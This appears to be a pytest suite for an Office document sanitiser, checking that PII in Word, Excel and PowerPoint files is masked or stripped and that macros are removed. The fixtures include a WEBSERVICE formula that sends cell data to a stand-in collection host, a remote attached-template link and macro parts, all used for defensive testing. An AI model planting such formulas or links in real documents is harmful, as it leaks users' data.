"""Word, Excel and PowerPoint files: what changes, what stays, and that the programs and libraries that own the formats open the result."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import docx
import openpyxl
import pptx
import pytest
from docx.oxml import parse_xml
from openpyxl.cell.rich_text import CellRichText, TextBlock
from openpyxl.cell.text import InlineFont
from openpyxl.comments import Comment

from tests.cleaning.marked import Rewritten, rewritten
from tests.formats.office import building
from tests.formats.office.building import W, relations
from tests.formats.office.ole.test_read import project
from tests.formats.reading import flat, read
from veritensor_ray.cleaning.cleaning_policy import CleanPolicy
from veritensor_ray.cleaning.copy_manifest import Result

MAIL = "jane.doe@example-mail.de"
ENGINES = ("secrets", "pii", "structure")
MASK = {"rules": [{"rule": "pii.*", "action": "mask"}]}
STRIP = CleanPolicy.model_validate({"rules": [{"view": ["hidden", "comment", "metadata"], "action": "strip"}]})


def clean(data: bytes, name: str, policy: dict[str, Any] | CleanPolicy | None = None) -> Rewritten:
    if isinstance(policy, dict):
        policy = CleanPolicy.model_validate(policy)
    return rewritten(data, name, policy, ENGINES)


def parts(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert archive.testzip() is None
        return {name: archive.read(name) for name in archive.namelist()}


def cleaned(data: bytes, name: str, policy: dict[str, Any] | CleanPolicy | None = None) -> bytes:
    """The clean file. It has no finding left that the policy acts on."""
    found = clean(data, name, policy)
    assert found.cleaned.result == Result.CLEANED, found.cleaned.reason
    assert found.data is not None
    again = clean(found.data, name, policy)
    assert again.cleaned.result == Result.COPIED, again.marks
    return found.data


def saved(document: Any) -> bytes:
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def body(data: bytes) -> str:
    return parts(data)["word/document.xml"].decode().partition("<w:body>")[2].removesuffix("</w:body></w:document>")


# Characters: one Word body in, one out. A mask stands where its first run stood; runs, formats and everything around them stay.

RUN = "<w:r><w:t>{}</w:t></w:r>"
BOLD = "<w:r><w:rPr><w:b/></w:rPr><w:t>{}</w:t></w:r>"
BODIES = {
    "one run": (f"<w:p><w:r><w:t>Ask {MAIL} now</w:t></w:r></w:p>", "<w:p><w:r><w:t>Ask [EMAIL] now</w:t></w:r></w:p>"),
    "split in the middle": (
        "<w:p><w:r><w:t>Ask jane.do</w:t></w:r>" + BOLD.format("e@example") + "<w:r><w:t>-mail.de now</w:t></w:r></w:p>",
        "<w:p><w:r><w:t>Ask [EMAIL]</w:t></w:r>" + BOLD.format("") + "<w:r><w:t> now</w:t></w:r></w:p>",
    ),
    "a hidden run in between": (
        "<w:p><w:r><w:t>jane.</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>XX</w:t></w:r><w:r><w:t>doe@example-mail.de</w:t></w:r></w:p>",
        "<w:p><w:r><w:t>[EMAIL]</w:t></w:r><w:r><w:rPr><w:vanish/></w:rPr><w:t>XX</w:t></w:r><w:r><w:t></w:t></w:r></w:p>",
    ),
    "entities around it": (
        f"<w:p><w:r><w:t>A &amp; B &lt;{MAIL}&gt; &#233;</w:t></w:r></w:p>",
        "<w:p><w:r><w:t>A &amp; B &lt;[EMAIL]&gt; &#233;</w:t></w:r></w:p>",
    ),
    "an entity in it": ("<w:p><w:r><w:t>jane.doe&#64;example-mail.de</w:t></w:r></w:p>", "<w:p><w:r><w:t>[EMAIL]</w:t></w:r></w:p>"),
    "line ends": (
        f"<w:p><w:r><w:t>one\r\ntwo {MAIL}\r\n</w:t></w:r></w:p>\r\n",
        "<w:p><w:r><w:t>one\r\ntwo [EMAIL]\r\n</w:t></w:r></w:p>\r\n",
    ),
    "CDATA": (f"<w:p><w:r><w:t><![CDATA[a&b {MAIL}]]></w:t></w:r></w:p>", "<w:p><w:r><w:t><![CDATA[a&b [EMAIL]]]></w:t></w:r></w:p>"),
    "other letters before it": (f"<w:p><w:r><w:t>Grüße 😀 {MAIL}</w:t></w:r></w:p>", "<w:p><w:r><w:t>Grüße 😀 [EMAIL]</w:t></w:r></w:p>"),
    "a deleted text": (
        f'<w:p><w:del w:author="Eve"><w:r><w:delText>{MAIL}</w:delText></w:r></w:del></w:p>',
        '<w:p><w:del w:author="Eve"><w:r><w:delText>[EMAIL]</w:delText></w:r></w:del></w:p>',
    ),
    "a field": (
        f'<w:p><w:r><w:instrText> HYPERLINK "mailto:{MAIL}" </w:instrText></w:r></w:p>',
        '<w:p><w:r><w:instrText> HYPERLINK "mailto:[EMAIL]" </w:instrText></w:r></w:p>',
    ),
    "an attribute": (
        f"<w:p><w:r><w:drawing><wp:docPr descr='A &amp; B: {MAIL}' id='1'/></w:drawing></w:r></w:p>",
        "<w:p><w:r><w:drawing><wp:docPr descr='A &amp; B: [EMAIL]' id='1'/></w:drawing></w:r></w:p>",
    ),
    "authors, each time": (
        "".join(f'<w:p><w:ins w:author="{MAIL}"><w:r><w:t>{i}</w:t></w:r></w:ins></w:p>' for i in range(2)),
        "".join(f'<w:p><w:ins w:author="[EMAIL]"><w:r><w:t>{i}</w:t></w:r></w:ins></w:p>' for i in range(2)),
    ),
    "a fallback with the same text": (
        f"<w:p><w:r><AlternateContent><Choice><w:p><w:r><w:t>{MAIL}</w:t></w:r></w:p></Choice>"
        f"<Fallback><w:p><w:r><w:t>{MAIL}</w:t></w:r></w:p></Fallback></AlternateContent></w:r></w:p>",
        "<w:p><w:r><AlternateContent><Choice><w:p><w:r><w:t>[EMAIL]</w:t></w:r></w:p></Choice>"
        "<Fallback><w:p><w:r><w:t>[EMAIL]</w:t></w:r></w:p></Fallback></AlternateContent></w:r></w:p>",
    ),
    "twice in a paragraph, and in a box within it": (
        f"<w:p><w:r><w:t>{MAIL} </w:t></w:r><w:r><w:p><w:r><w:t>{MAIL}</w:t></w:r></w:p></w:r><w:r><w:t>or {MAIL}</w:t></w:r></w:p>",
        "<w:p><w:r><w:t>[EMAIL] </w:t></w:r><w:r><w:p><w:r><w:t>[EMAIL]</w:t></w:r></w:p></w:r><w:r><w:t>or [EMAIL]</w:t></w:r></w:p>",
    ),
    "a hyphen that is an element": (
        "<w:p><w:r><w:t>jane.doe@example</w:t><w:noBreakHyphen/><w:t>mail.de</w:t></w:r></w:p>",
        "<w:p><w:r><w:t>[EMAIL]</w:t><w:noBreakHyphen/><w:t></w:t></w:r></w:p>",
    ),
    "an XML comment": (f"<w:p><!-- ask {MAIL} --></w:p>", "<w:p><!-- ask [EMAIL] --></w:p>"),
}


@pytest.mark.parametrize(("before", "after"), BODIES.values(), ids=BODIES)
def test_only_the_characters_change(before: str, after: str) -> None:
    assert body(cleaned(building.docx(before), "a.docx", MASK)) == after


@pytest.mark.parametrize("codec", ["utf-8-sig", "utf-16", "utf-16-be", "iso-8859-1"])
def test_encoding_stays(codec: str) -> None:
    xml = f'<?xml version="1.0" encoding="{codec.removesuffix("-sig").removesuffix("-be")}"?><w:document {W}><w:body>'
    before, after = (f"{xml}<w:p><w:r><w:t>é {{}} é</w:t></w:r></w:p></w:body></w:document>".format(one) for one in (MAIL, "[EMAIL]"))
    bom = b"\xfe\xff" if codec == "utf-16-be" else b""
    data = building.package({"[Content_Types].xml": "<Types/>", "word/document.xml": bom + before.encode(codec)})
    assert parts(cleaned(data, "a.docx"))["word/document.xml"] == bom + after.encode(codec)


def test_everything_else_is_the_same_byte_for_byte() -> None:
    data = building.docx(f"<w:p><w:r><w:t>{MAIL}</w:t></w:r></w:p>", styles__xml="<w:styles/>", header1__xml=f"<w:hdr {W}/>")
    before, after = (zipfile.ZipFile(io.BytesIO(one)) for one in (data, cleaned(data, "a.docx")))
    assert before.namelist() == after.namelist()
    for one in before.infolist():
        other = after.getinfo(one.filename)
        assert (one.date_time, one.compress_type, one.external_attr) == (other.date_time, other.compress_type, other.external_attr)
        if one.filename != "word/document.xml":
            assert before.read(one) == after.read(other)
            assert one.compress_size == other.compress_size


# Word

HIDDEN = "<w:rPr><w:vanish/></w:rPr>"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        (
            f"<w:p><w:r><w:t>seen</w:t></w:r><w:r>{HIDDEN}<w:t>tell {MAIL} </w:t></w:r><w:r>{HIDDEN}<w:t>all</w:t></w:r></w:p>",
            f"<w:p><w:r><w:t>seen</w:t></w:r><w:r>{HIDDEN}<w:t></w:t></w:r><w:r>{HIDDEN}<w:t></w:t></w:r></w:p>",
        ),
        (
            f'<w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t>mail {MAIL}</w:t></w:r></w:p><w:p><w:r><w:t>mail</w:t></w:r></w:p>',
            '<w:p><w:r><w:rPr><w:color w:val="FFFFFF"/></w:rPr><w:t></w:t></w:r></w:p><w:p><w:r><w:t>mail</w:t></w:r></w:p>',
        ),
    ],
    ids=["vanished", "white"],
)
def test_a_hidden_text_with_a_finding_is_stripped_as_a_whole(before: str, after: str) -> None:
    assert body(cleaned(building.docx(before), "a.docx", STRIP)) == after


def word_document() -> bytes:
    document = docx.Document()
    paragraph = document.add_paragraph("Write to jane.do")
    paragraph.add_run("e@example").bold = True
    paragraph.add_run("-mail.de or call.")
    document.add_table(1, 2).cell(0, 1).text = f"cell {MAIL}"
    document.sections[0].header.paragraphs[0].text = f"header {MAIL}"
    document.sections[0].footer.paragraphs[0].text = f"footer {MAIL}"
    hidden = document.add_paragraph("Visible. ").add_run("Nobody sees this.")
    hidden.font.hidden = True
    document.add_comment(paragraph.runs, text=f"comment {MAIL}", author="Jane Doe", initials="JD")
    link = document.part.relate_to(f"mailto:{MAIL}", f"{building._REL}/hyperlink", is_external=True)
    document.add_paragraph()._p.append(parse_xml(f'<w:hyperlink {W} r:id="{link}"><w:r><w:t>link</w:t></w:r></w:hyperlink>'))
    document.core_properties.author, document.core_properties.title = "Jane Doe", f"for {MAIL}"
    return saved(document)


def test_word_document() -> None:
    data = word_document()
    document = docx.Document(io.BytesIO(cleaned(data, "a.docx")))
    assert [run.text for run in document.paragraphs[0].runs][:3] == ["Write to [EMAIL]", "", " or call."]
    assert document.paragraphs[0].runs[1].bold
    assert document.tables[0].cell(0, 1).text == "cell [EMAIL]"
    assert document.sections[0].header.paragraphs[0].text == "header [EMAIL]"
    assert document.sections[0].footer.paragraphs[0].text == "footer [EMAIL]"
    assert [comment.text for comment in document.comments] == ["comment [EMAIL]"]
    assert document.core_properties.title == "for [EMAIL]"
    assert document.core_properties.author == "Jane Doe"
    assert "mailto:%5BEMAIL%5D" in {relation.target_ref for relation in document.part.rels.values() if relation.is_external}


@pytest.mark.slow
def test_stripped_word_document() -> None:
    data = word_document()
    clean = cleaned(data, "a.docx", {"strip": ["hidden-text", "comments", "metadata"]})
    document = docx.Document(io.BytesIO(clean))
    names = parts(clean)
    assert not {name for name in names if "comments" in name or "thumbnail" in name}
    assert b"comments" not in names["[Content_Types].xml"] + names["word/_rels/document.xml.rels"]
    assert b"commentR" not in names["word/document.xml"]
    assert document.paragraphs[1].text == "Visible. "
    assert (document.core_properties.author, document.core_properties.title, document.core_properties.created) == ("", "", None)


def test_strip_removes_the_authors_of_changes() -> None:
    data = building.docx('<w:p><w:ins w:author="Eve" w:id="1"><w:r><w:t>new</w:t></w:r></w:ins></w:p>')
    expected = '<w:p><w:ins w:author="" w:id="1"><w:r><w:t>new</w:t></w:r></w:ins></w:p>'
    assert body(cleaned(data, "a.docx", {"strip": ["metadata"]})) == expected


# Excel


def workbook() -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "People"
    sheet.append(["name", "mail", "card", "note"])
    sheet.append(["Jane", MAIL, 4111111111111111, f'=HYPERLINK("mailto:{MAIL}","write")'])
    sheet.append(["Bob", MAIL, 7, CellRichText("rich ", TextBlock(InlineFont(b=True), "jane.doe@"), "example-mail.de")])
    sheet["A2"].comment = Comment(f"comment {MAIL}", "Jane")
    sheet.oddHeader.left.text = f"header {MAIL}"
    hidden = book.create_sheet("Secret")
    hidden.sheet_state = "hidden"
    hidden.append(["only here", "name", 12])
    return saved(book)


CARDS = {"rules": [{"rule": "pii.payment-card", "action": "mask"}]}


def test_workbook() -> None:
    book = openpyxl.load_workbook(io.BytesIO(cleaned(workbook(), "a.xlsx", CARDS)), rich_text=True)
    sheet = book["People"]
    assert [[str(cell) for cell in row] for row in sheet.iter_rows(values_only=True)] == [
        ["name", "mail", "card", "note"],
        ["Jane", "[EMAIL]", "[PAYMENT_CARD]", '=HYPERLINK("mailto:[EMAIL]","write")'],
        ["Bob", "[EMAIL]", "7", "rich [EMAIL]"],
    ]
    assert sheet["C3"].value == 7
    assert sheet["A2"].comment.text == "comment [EMAIL]"
    assert sheet.oddHeader.left.text == "header [EMAIL]"


def test_stripped_workbook() -> None:
    clean = cleaned(workbook(), "a.xlsx", CARDS | {"strip": ["hidden-text", "comments", "metadata"]})
    book = openpyxl.load_workbook(io.BytesIO(clean))
    assert book["People"]["A2"].comment is None
    assert [cell for row in book["Secret"].iter_rows(values_only=True) for cell in row] == [None, None, None]
    assert book["People"]["A1"].value == "name", "a visible cell shows the same shared text as a hidden one"
    assert not [name for name in parts(clean) if "comment" in name or "vml" in name.lower()]
    assert b"only here" not in b"".join(parts(clean).values())
    assert b"openpyxl" not in parts(clean)["docProps/core.xml"]


KEPT = "<si><t>keep</t></si>"
SHARED = f"{KEPT}<si><r><t>a </t></r><r><t>{MAIL}</t></r></si>"
CELLS = {
    "a shared text": ('<c r="A1" t="s"><v>1</v></c>', '<c r="A1" t="s"><v>1</v></c>', {}),
    "an inline text": (
        f'<c r="A1" s="3" t="inlineStr"><is><t>{MAIL}</t></is></c>',
        '<c r="A1" s="3" t="inlineStr"><is><t>[EMAIL]</t></is></c>',
        {},
    ),
    "the result of a formula": (
        f'<c r="A1" t="str"><f>B1&amp;C1</f><v>{MAIL}</v></c>',
        '<c r="A1" t="str"><f>B1&amp;C1</f><v>[EMAIL]</v></c>',
        {},
    ),
    "a number": (
        '<c r="A1" s="3"><v>4111111111111111</v></c>',
        '<c r="A1" s="3" t="inlineStr"><is><t xml:space="preserve">[PAYMENT_CARD]</t></is></c>',
        CARDS,
    ),
    "a number with an exponent": (
        '<c r="A1" t="n" s="3"><v>4.111111111111111E15</v></c>',
        '<c r="A1" s="3" t="inlineStr"><is><t xml:space="preserve">[PAYMENT_CARD]</t></is></c>',
        CARDS,
    ),
    "the number that a formula has as its result": (
        '<c r="A1"><f>B1*1</f><v>4111111111111111</v></c>',
        '<c r="A1" t="str"><f>B1*1</f><v>[PAYMENT_CARD]</v></c>',
        CARDS,
    ),
    "a cell to drop": ('<c r="A1" s="2" t="s"><v>1</v></c>', '<c r="A1" s="2"/>', {"rules": [{"column": "A", "action": "drop-cell"}]}),
    "a cell of a row to drop": (
        '<c r="A1" t="s"><v>1</v></c><c r="B1" t="b"><v>1</v></c><c r="C1"><f>B1</f><v>1</v></c>',
        '<c r="A1"/><c r="B1"/><c r="C1"/>',
        {"rules": [{"column": "A", "action": "drop-row"}]},
    ),
}


@pytest.mark.parametrize(("before", "after", "policy"), CELLS.values(), ids=CELLS)
def test_cells(before: str, after: str, policy: dict[str, Any]) -> None:
    rows = '<sheetData><row r="1">{}</row><row r="2"><c r="A2" t="s"><v>0</v></c></row></sheetData>'
    strings = SHARED if 't="s"' in before else KEPT
    found = parts(cleaned(building.xlsx({"S": f"<worksheet>{rows.format(before)}</worksheet>"}, strings), "a.xlsx", policy))
    assert found["xl/worksheets/sheet1.xml"].decode() == f"<worksheet>{rows.format(after)}</worksheet>"
    assert MAIL not in found["xl/sharedStrings.xml"].decode()


def test_a_shared_text_that_no_cell_shows_is_cleaned_too() -> None:
    before, _, _ = CELLS["an inline text"]
    data = building.xlsx({"S": f'<worksheet><sheetData><row r="1">{before}</row></sheetData></worksheet>'}, SHARED)
    assert MAIL not in parts(cleaned(data, "a.xlsx"))["xl/sharedStrings.xml"].decode()


def test_a_document_loses_the_paragraphs_of_dropped_values_and_no_others() -> None:
    policy = {"rules": [{"rule": "pii.email", "action": "drop-cell"}]}
    table = "<w:tbl><w:tr><w:tc>{}</w:tc><w:tc><w:p><w:r><w:t>Total</w:t></w:r></w:p></w:tc></w:tr></w:tbl>"
    paragraph = "<w:p><w:r><w:t>{}</w:t></w:r>{}</w:p>"
    before = f"{paragraph.format('Ask ', BOLD.format(MAIL))}{paragraph.format('Regards', '')}{table.format(paragraph.format(MAIL, ''))}"
    after = f"{paragraph.format('', BOLD.format(''))}{paragraph.format('Regards', '')}{table.format(paragraph.format('', ''))}"
    assert body(cleaned(building.docx(before), "a.docx", policy)) == after


@pytest.mark.parametrize("policy", [STRIP, {"rules": [{"rule": "pii.email", "action": "drop-cell"}]}], ids=["strip", "drop-cell"])
@pytest.mark.parametrize(
    "rule",
    [
        "<conditionalFormatting><cfRule><formula>{}</formula></cfRule></conditionalFormatting>",
        "<dataValidations><dataValidation><formula1>{}</formula1><formula2>1</formula2></dataValidation></dataValidations>",
    ],
    ids=["conditional format", "rule for input"],
)
def test_a_formula_outside_of_a_cell_is_never_empty(rule: str, policy: dict[str, Any] | CleanPolicy) -> None:
    """A program takes an empty one for damage."""
    sheet = f"<worksheet><sheetData></sheetData>{rule}</worksheet>"
    found = parts(cleaned(building.xlsx({"S": sheet.format(f'"{MAIL}" &amp; "b"')}), "a.xlsx", policy))
    assert found["xl/worksheets/sheet1.xml"].decode() == sheet.format('""')


def test_the_chain_of_calculation_goes_with_a_formula() -> None:
    """A program takes a chain with a cell that has no formula for damage. It makes a missing one anew."""
    sheet = '<worksheet><sheetData><row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://collect.example-host.com/?q="&amp;B1)</f><v>x</v></c></row></sheetData></worksheet>'
    rels = relations(("worksheet", "worksheets/sheet1.xml", False), ("calcChain", "calcChain.xml", False))
    types = '<Types><Override PartName="/xl/calcChain.xml" ContentType="c"/></Types>'
    chain = {"xl/calcChain__xml": "<calcChain/>", "xl/_rels/workbook__xml__rels": rels, "[Content_Types]__xml": types}
    found = parts(cleaned(building.xlsx({"S": sheet}, **chain), "a.xlsx"))
    assert '<c r="A1" t="str"><v>x</v></c>' in found["xl/worksheets/sheet1.xml"].decode()
    assert "xl/calcChain.xml" not in found
    assert found["[Content_Types].xml"] == b"<Types></Types>"


@pytest.mark.parametrize(
    ("sheet", "why"),
    [
        (
            '<sheetData><row r="1"><c r="A1" t="str"><f t="shared" si="0">B1</f><v>{}</v></c></row></sheetData>',
            "other cells share the formula",
        ),
    ],
)
def test_a_row_that_cannot_be_emptied_holds_the_file(sheet: str, why: str) -> None:
    found = clean(building.xlsx({"S": sheet.format(MAIL)}), "a.xlsx", {"rules": [{"rule": "pii.*", "action": "drop-row"}]})
    assert found.cleaned.result == Result.HELD, why


# PowerPoint


def presentation() -> bytes:
    show = pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[1])
    slide.shapes.title.text = f"Ask {MAIL}"
    paragraph = slide.placeholders[1].text_frame.paragraphs[0]
    for text in ("jane.do", "e@example", "-mail.de & more"):
        paragraph.add_run().text = text
    slide.notes_slide.notes_text_frame.text = f"notes {MAIL}"
    frame = slide.shapes.add_table(1, 1, 0, 0, 900000, 900000)
    frame.table.cell(0, 0).text = f"cell {MAIL}"
    show.core_properties.author = "Jane"
    return saved(show)


def test_presentation() -> None:
    show = pptx.Presentation(io.BytesIO(cleaned(presentation(), "a.pptx")))
    slide = show.slides[0]
    assert slide.shapes.title.text == "Ask [EMAIL]"
    assert [run.text for run in slide.placeholders[1].text_frame.paragraphs[0].runs] == ["[EMAIL]", "", " & more"]
    assert slide.notes_slide.notes_text_frame.text == "notes [EMAIL]"
    assert slide.shapes[2].table.cell(0, 0).text == "cell [EMAIL]"


def test_stripped_presentation() -> None:
    show = pptx.Presentation(io.BytesIO(cleaned(presentation(), "a.pptx", {"strip": ["comments", "metadata"]})))
    assert show.slides[0].notes_slide.notes_text_frame.text == ""
    assert show.core_properties.author == ""


def test_chart_with_its_workbook() -> None:
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE

    show = pptx.Presentation()
    slide = show.slides.add_slide(show.slide_layouts[6])
    chart = CategoryChartData()
    chart.categories = [MAIL, "other"]
    chart.add_series("count", (1, 2))
    slide.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, 0, 0, 900000, 900000, chart)
    found = parts(cleaned(saved(show), "a.pptx"))
    embedded = next(data for name, data in found.items() if name.endswith(".xlsx"))
    assert openpyxl.load_workbook(io.BytesIO(embedded)).active["A2"].value == "[EMAIL]"
    again = pptx.Presentation(io.BytesIO(cleaned(saved(show), "a.pptx"))).slides[0].shapes[0].chart
    assert list(again.plots[0].categories) == ["[EMAIL]", "other"]


# Whole parts


def test_macros_are_removed_with_their_parts() -> None:
    types = '<Types><Override PartName="/word/document.xml" ContentType="main"/><Override PartName="/word/{}" ContentType="x"/></Types>'
    vba = building.ole({path.partition("/")[2]: data for path, data in project().items()})
    data = building.package(
        {
            "[Content_Types].xml": types.format("vbaData.xml"),
            "word/document.xml": f"<w:document {W}><w:body/></w:document>",
            "word/_rels/document.xml.rels": relations(("vbaProject", "vbaProject.bin", False), ("styles", "styles.xml", False)),
            "word/vbaProject.bin": vba,
            "word/_rels/vbaProject.bin.rels": relations(("wordVbaData", "vbaData.xml", False)),
            "word/vbaData.xml": "<data/>",
            "word/styles.xml": "<w:styles/>",
        }
    )
    for policy in ({}, {"strip": ["macros"]}):
        assert parts(cleaned(data, "a.docm", policy)) == {
            "[Content_Types].xml": b'<Types><Override PartName="/word/document.xml" ContentType="main"/></Types>',
            "word/document.xml": f"<w:document {W}><w:body/></w:document>".encode(),
            "word/_rels/document.xml.rels": relations(("vbaProject", "x", False), ("styles", "styles.xml", False))
            .replace(f'<Relationship Id="r1" Type="{building._REL}/vbaProject" Target="x"/>', "")
            .encode(),
            "word/styles.xml": b"<w:styles/>",
        }


@pytest.mark.parametrize("policy", [{}, {"strip": ["macros"]}])
def test_a_workbook_with_a_macro_sheet_is_held(policy: dict[str, Any]) -> None:
    data = building.xlsx({"M": "<xm:macrosheet><sheetData><row><c><f>HALT()</f></c></row></sheetData></xm:macrosheet>"})
    found = clean(data, "a.xlsm", policy)
    assert (found.cleaned.result, found.data) == (Result.HELD, None)
    assert [mark.rule for mark in found.marks] == ["structure.macro"]


def test_an_external_target_is_stripped_but_stays_a_target() -> None:
    """Something in the document refers to the relationship."""
    rels = relations(("attachedTemplate", "https://templates.example-host.com/a.dotm", True), ("image", "media/a.png", False))
    data = building.docx("<w:p/>", **{"_rels..document__xml__rels": rels})
    found = parts(cleaned(data, "a.docx", {"rules": [{"rule": "structure.*", "severity": "high", "action": "strip"}]}))
    expected = rels.replace("https://templates.example-host.com/a.dotm", "about:blank")
    assert found["word/_rels/document.xml.rels"].decode() == expected


def test_files_inside_are_rewritten_too() -> None:
    data = building.docx("<w:p/>", **{"embeddings..a__docx": building.docx(f"<w:p><w:r><w:t>{MAIL}</w:t></w:r></w:p>")})
    assert body(parts(cleaned(data, "a.docx"))["word/embeddings/a.docx"]) == "<w:p><w:r><w:t>[EMAIL]</w:t></w:r></w:p>"


def test_a_file_inside_that_cannot_be_rewritten_holds_the_document() -> None:
    letter = building.ole({"WordDocument": b"x" * 4096, "Note": f"{MAIL} ".encode() * 200})
    found = clean(building.docx("<w:p/>", **{"embeddings..a__bin": letter}), "a.docx", {"unchecked": "copy"})
    assert found.marks
    assert (found.cleaned.result, found.data) == (Result.HELD, None)


def test_a_signed_document_is_held() -> None:
    data = building.package(
        {
            "[Content_Types].xml": "<Types/>",
            "word/document.xml": f"<w:document {W}><w:body><w:p><w:r><w:t>{MAIL}</w:t></w:r></w:p></w:body></w:document>",
            "_xmlsignatures/sig1.xml": "<Signature/>",
        }
    )
    found = clean(data, "a.docx")
    assert (found.cleaned.result, found.data) == (Result.HELD, None)
    assert "digital signature" in (found.cleaned.reason or "")


def test_a_value_of_symbols_is_not_half_changed() -> None:
    """A symbol is an element, not a character of the XML."""
    symbols = "".join(f'<w:sym w:font="Symbol" w:char="F0{ord(letter):02x}"/>' for letter in "jane.")
    found = clean(building.docx(f"<w:p><w:r>{symbols}<w:t>doe@example-mail.de</w:t></w:r></w:p>"), "a.docx")
    assert [mark.text for mark in found.marks] == [MAIL]
    assert found.cleaned.result == Result.HELD


def test_a_name_of_a_sheet_is_not_changed() -> None:
    """Formulas refer to it, so the workbook is held back."""
    data = building.xlsx({MAIL: "<sheetData/>"})
    assert clean(data, "a.xlsx").cleaned.result == Result.HELD


def test_headers_that_follow_the_data_of_a_part() -> None:
    out = io.BytesIO()
    with zipfile.ZipFile(_Unseekable(out), "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts(building.docx(BODIES["one run"][0])).items():
            archive.writestr(name, content)
    assert body(cleaned(out.getvalue(), "a.docx")) == BODIES["one run"][1]


class _Unseekable(io.RawIOBase):
    def __init__(self, file: io.BytesIO) -> None:
        self._file = file

    def writable(self) -> bool:
        return True

    def write(self, data: Any) -> int:
        return self._file.write(data)


@pytest.mark.slow
def test_the_real_reader_finds_the_same_texts() -> None:
    data = word_document()
    before, after = (flat(read(one, building.DOCX)[0], "part", "view", "column") for one in (data, cleaned(data, "a.docx")))
    assert [(text.replace(MAIL, "[EMAIL]").replace("mailto:[EMAIL]", "mailto:%5BEMAIL%5D"), *rest) for text, *rest in before] == after


@pytest.mark.skipif(shutil.which("soffice") is None, reason="LibreOffice is not installed")
@pytest.mark.parametrize("strip", [[], ["hidden-text", "comments", "metadata"]], ids=["masked", "stripped"])
def test_libreoffice_opens_the_result(tmp_path: Path, strip: list[str]) -> None:
    makers: dict[str, Callable[[], bytes]] = {"a.docx": word_document, "b.xlsx": workbook, "c.pptx": presentation}
    for name, make in makers.items():
        (tmp_path / name).write_bytes(cleaned(make(), name, CARDS | {"strip": strip}))
    command = [
        "soffice",
        f"-env:UserInstallation=file://{tmp_path}/profile",
        "--headless",
        "--convert-to",
        "pdf",
        "--outdir",
        str(tmp_path),
    ]
    subprocess.run([*command, *(str(tmp_path / name) for name in makers)], check=True, capture_output=True, timeout=150)
    assert {path.stem for path in tmp_path.glob("*.pdf")} == {"a", "b", "c"}
